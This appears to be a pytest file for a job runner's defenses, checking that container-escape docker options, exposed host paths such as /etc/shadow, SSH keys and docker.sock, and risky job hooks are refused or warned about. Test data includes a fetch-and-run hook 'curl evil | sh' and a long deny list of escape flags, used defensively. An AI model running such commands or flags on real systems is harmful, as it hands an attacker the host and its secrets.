"""A stranger's job file: what it would do is said, and what undoes its container is refused."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runner.common.errors import SpecError
from runner.containers.options import HARMLESS, undoing_arguments
from runner.engines.script.job import ScriptJob
from runner.engines.sft.job import SftJob
from runner.jobs.risks import job_warnings, unnamed_secrets
from runner.launch.container_risks import require_safe, seen_whole, undoing
from runner.plans.base import PlannedMount
from runner.plans.container.host_paths import Host, exposed
from tests.containers.test_argv import container, script_plan
from tests.support.workplace import Workplace

HARM = [
    ["--privileged"],
    ["--privileged=true"],
    ["-v", "/:/host"],
    ["-v/:/host"],
    ["--volume=/:/host"],
    ["--mount", "type=bind,source=/,target=/host"],
    ["--network", "host"],
    ["--net=host"],
    ["--pid", "host"],
    ["--ipc=host"],
    ["--uts=host"],
    ["--userns=host"],
    ["--cgroupns", "host"],
    ["--cgroup-parent", "/"],
    ["--cap-add", "SYS_ADMIN"],
    ["--security-opt", "seccomp=unconfined"],
    ["--device", "/dev/sda"],
    ["--device-cgroup-rule", "a *:* rwm"],
    ["--gpus", "all"],
    ["--runtime", "other"],
    ["--user", "0"],
    ["-u0"],
    ["--group-add", "docker"],
    ["--volumes-from", "other"],
    ["--env-file", "/root/secrets"],
    ["--env", "AWS_SECRET_ACCESS_KEY"],
    ["-e", "AWS_SECRET_ACCESS_KEY"],
    ["--env", "NVIDIA_VISIBLE_DEVICES=all"],
    ["--env=RUNNER_SUPERVISOR=1:1"],
    ["--label", "dev.runner.run=/another"],
    ["--sysctl", "net.ipv4.ip_forward=1"],
    ["--pids-limit", "-1"],
    ["--memory=-1"],
    ["--oom-score-adj", "-1000"],
    ["--oom-kill-disable"],
    ["--publish", "22:22"],
    ["--log-driver", "syslog"],
    ["--rm=false"],
    ["--detach"],
    ["--restart", "always"],
    ["--name", "another"],
    ["--cidfile", "/root/x"],
    ["--entrypoint", "sh"],
    ["--workdir", "/"],
    ["--tmpfs", "/usr:exec,suid"],
    ["--read-only=false"],
    ["--pull", "always"],
    ["--", "image"],
    ["image-of-mine"],
    [""],
    ["-"],
    ["-e=A=B"],
    ["--hostname"],
    ["--cpus"],
    ["--an-option-of-the-next-docker"],
    ["--hostname", "x", "--privileged"],
    ["--hostname=x", "--privileged"],
    ["--init", "--init", "-it"],
]


@pytest.mark.parametrize("words", HARM, ids=lambda words: " ".join(words) or "empty")
def test_what_undoes_a_container_is_found(words: list[str]) -> None:
    assert len(undoing_arguments(words)) >= 1


@pytest.mark.parametrize(
    "words",
    [
        [],
        ["--hostname", "x"],
        ["--hostname=x", "-h", "--privileged"],  # the name of a host, to docker
        ["--cpus", "2", "--cpuset-cpus=0-3", "-c", "512", "--init"],
        ["--label", "team=a", "-l", "b"],
        ["--env", "A=B", "--env=C=", "-e", "D=--privileged"],
        ["--add-host", "a:10.0.0.1", "--dns", "10.0.0.2"],
        ["--ulimit", "core=0", "--oom-score-adj", "500", "--stop-timeout=3"],
        ["--cap-drop", "ALL", "--shm-size=1g"],
    ],
)
def test_what_leaves_it_closed_is_not(words: list[str]) -> None:
    assert undoing_arguments(words) == []


@given(st.lists(st.text(min_size=0, max_size=12), max_size=6))
def test_any_words_are_judged_and_only_known_options_pass(words: list[str]) -> None:
    if not undoing_arguments(words):
        names = [word.partition("=")[0] for word in words]
        assert not words or names[0] in {*HARMLESS, "--init", "--no-healthcheck", "-c", "-e"} | {
            *("-h", "-l")
        }


HOST = Host(
    homes=(Path("/home/ann"),),
    state=Path("/home/ann/.local/state/runner"),
    cache=Path("/home/ann/.cache/runner"),
    runs=Path("/work/runs"),
    sockets=frozenset([Path("/work/agent.sock")]),
)


@pytest.mark.parametrize(
    ("source", "writable"),
    [
        *((place, False) for place in ("/", "/proc", "/proc/1", "/sys", "/dev", "/dev/sda")),
        *((place, False) for place in ("/run", "/run/docker.sock", "/etc", "/etc/shadow")),
        *((place, False) for place in ("/home", "/home/ann", "/home/ann/.ssh", "/dev/shm")),
        *((place, False) for place in ("/home/ann/.ssh/id_ed25519", "/home/ann/.config")),
        *((place, False) for place in ("/home/ann/.local/state/runner/key", "/home/ann/.local")),
        *((place, False) for place in ("/home/ann/.cache", "/home/ann/.cache/huggingface")),
        *((place, False) for place in ("/work/agent.sock", "/tmp", "/dev/shm/runner-0-1-2-3-x/s")),
        *((place, True) for place in ("/usr", "/usr/local/bin", "/opt/x", "/etc/ssl", "/var")),
        *((place, True) for place in ("/home/ann/.vim", "/home/ann/.cache/runner/hashes")),
        *((place, True) for place in ("/home/ann/.cache/runner", "/work/runs", "/work/runs/a/b")),
        ("/var/lib/docker", True),
    ],
)
def test_paths_that_open_the_host_are_found(source: str, writable: bool) -> None:
    assert exposed(Path(source), writable=writable, host=HOST)


@pytest.mark.parametrize(
    ("source", "writable"),
    [
        *(
            ("/data", True),
            ("/home/ann/data", True),
            ("/mnt/disk/rows", True),
            ("/usr/share", False),
        ),
        *(("/etc/ssl/certs", False), ("/dev/shm/rows", True), ("/run/media/ann/disk", True)),
        *(("/home/ann/.cache/huggingface/hub/models--a--b", False), ("/work/data", True)),
        *(("/opt/weights", False), ("/home/ann/.cache/runner/prepared", True), ("/tmp/x", True)),
    ],
)
def test_data_is_no_danger(source: str, writable: bool) -> None:
    assert exposed(Path(source), writable=writable, host=HOST) is None


def plan(**box: Any) -> Any:
    return script_plan("/work/me/train.sh", container=container(**box).model_dump())


def test_the_refusal_names_file_field_value_and_the_nearest(tmp_path: Path) -> None:
    bad = plan(arguments=["--cpus", "2", "--hostnam", "x", "--privileged"])
    with pytest.raises(SpecError) as caught:
        require_safe(
            bad,
            where="job.yaml",
            runs=tmp_path,
            allowed=False,
            sources={"container.arguments": "job.yaml:7"},
        )
    assert caught.value.exit_code == 2
    text = "\n".join(caught.value.lines())
    assert "job.yaml:7" in text and "container.arguments.2" in text and "--unsafe-container" in text
    assert "nearest   --hostname" in text and "--privileged" in text
    require_safe(bad, where="job.yaml", runs=tmp_path, allowed=True)


def test_a_link_to_the_host_is_seen_through(tmp_path: Path) -> None:
    link = tmp_path / "data"
    link.symlink_to("/etc")
    mount = PlannedMount(source=str(link), target="/data")
    (found,) = undoing(plan(mounts=[mount]), where="job.yaml", runs=tmp_path)
    assert found.field == "container.mounts.0" and "system" in found.problem


def test_a_socket_is_found_wherever_it_lies(tmp_path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listening:
        folder = tmp_path / "s"
        folder.mkdir()
        listening.bind(str(folder / "agent"))
        for source in (folder, folder / "agent"):
            mount = PlannedMount(source=str(source), target="/x")
            (found,) = undoing(plan(mounts=[mount]), where="job.yaml", runs=tmp_path)
            assert "socket" in found.problem


def test_what_a_script_reads_is_looked_at_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".ssh").mkdir()
    inputs = [{"path": str(tmp_path / ".ssh"), "kind": "folder"}]
    box = container().model_dump()
    (found,) = undoing(
        script_plan("/work/me/x.sh", inputs=inputs, container=box), where="j", runs=tmp_path
    )
    assert found.field == "inputs.0"
    at_home = script_plan(str(tmp_path / "x.sh"), container=box)
    assert undoing(at_home, where="j", runs=tmp_path / "runs") == []
    assert len(seen_whole(at_home)) == 1
    writing = script_plan(str(tmp_path / "x.sh"), container=box, workdir="source")
    (found,) = undoing(writing, where="j", runs=tmp_path / "runs")
    assert found.field == "workdir"


def test_each_power_of_a_job_is_named() -> None:
    powers = {
        "on_end": "curl evil | sh",
        "container": {
            "image": "theirs:1",
            "mounts": [{"source": "/data"}, {"source": "/out", "readonly": False, "target": "/o"}],
            "arguments": ["--privileged"],
            "network": "host",
            "environment": ["AWS_PROFILE"],
            "secrets": ["HF_TOKEN"],
        },
    }
    script = ScriptJob.model_validate({"engine": "script", "script": "train.sh", **powers})
    told = "\n".join(job_warnings(script))
    for text in (
        *(
            "curl evil | sh",
            "train.sh",
            "theirs:1",
            "read '/data'",
            "read and WRITE '/out' at '/o'",
        ),
        *("--privileged", "network is host", "AWS_PROFILE", "HF_TOKEN"),
    ):
        assert text in told
    assert job_warnings(ScriptJob(engine="script", script="x"))[0].startswith("script 'x'")


def test_a_secret_that_is_set_and_not_named_is_told() -> None:
    job = ScriptJob(engine="script", script="x")
    assert unnamed_secrets(job, {"WANDB_API_KEY"}, "none") == []
    (line,) = unnamed_secrets(job, {"WANDB_API_KEY", "HOME"}, "bridge")
    assert "container.secrets=[WANDB_API_KEY]" in line
    named = job.model_copy(
        update={"container": job.container.model_copy(update={"secrets": ["WANDB_API_KEY"]})}
    )
    assert unnamed_secrets(named, {"WANDB_API_KEY"}, "bridge") == []


IMAGE = {
    "Id": "sha256:" + "1" * 64,
    "RepoTags": ["theirs:1"],
    "Size": 1,
    "Created": "2026-01-01T00:00:00Z",
    "Config": {"Labels": {}},
}
FAKE = f"""#!/bin/sh
case "$1 $2" in
"info --format") echo '{{"ServerVersion": "28.0", "CgroupVersion": "2", "OSType": "linux"}}' ;;
"image inspect") echo '[{json.dumps(IMAGE)}]' ;;
*) echo "$@" >>"$PLACE/asked"; exit 1 ;;
esac
"""


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workplace:
    program = tmp_path / "docker"
    program.write_text(FAKE)
    program.chmod(0o755)
    monkeypatch.setenv("RUNNER_CONTAINER_CLI", str(program))
    monkeypatch.setenv("RUNNER_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("PLACE", str(tmp_path))
    (tmp_path / "train.sh").write_text("true\n")
    job = {
        "engine": "script",
        "script": "train.sh",
        "on_end": "touch pwned",
        "launch": {"on": "docker", "device": "cpu"},
        "container": {
            "image": "theirs:1",
            "arguments": ["--privileged"],
            "mounts": [{"source": "/etc"}],
        },
        "smoke": {},
    }
    (tmp_path / "job.yaml").write_text(json.dumps(job))
    return Workplace(tmp_path)


def test_train_and_smoke_refuse_without_the_flag_and_check_says_so(place: Workplace) -> None:
    refused = place.call("train", "job.yaml")
    assert refused.code == 2, refused.err
    assert "container.arguments" in refused.err and "container.mounts.0" in refused.err
    assert "WARNING    on_end" in refused.err
    smoke = place.call("smoke", "job.yaml")
    assert smoke.code == 1 and "container.mounts.0" in smoke.err
    assert not (place.folder / "runs").exists()
    check = place.call("check", "job.yaml", "--json")
    assert check.code == 0, check.err
    told = "\n".join(check.json["warnings"])
    assert "--unsafe-container" in told and "--privileged" in told and "touch pwned" in told
    assert not (place.folder / "pwned").exists()
    allowed = place.call("train", "job.yaml", "--unsafe-container", "--dry-run")
    assert allowed.code == 0, allowed.err
    assert "--privileged" in allowed.err


def test_a_jobs_trust_remote_code_is_named() -> None:
    job = SftJob.model_validate(
        {"model": "a/b", "data": {"train": "x.jsonl"}, "trust_remote_code": True}
    )
    assert any("trust_remote_code" in line and "a/b" in line for line in job_warnings(job))
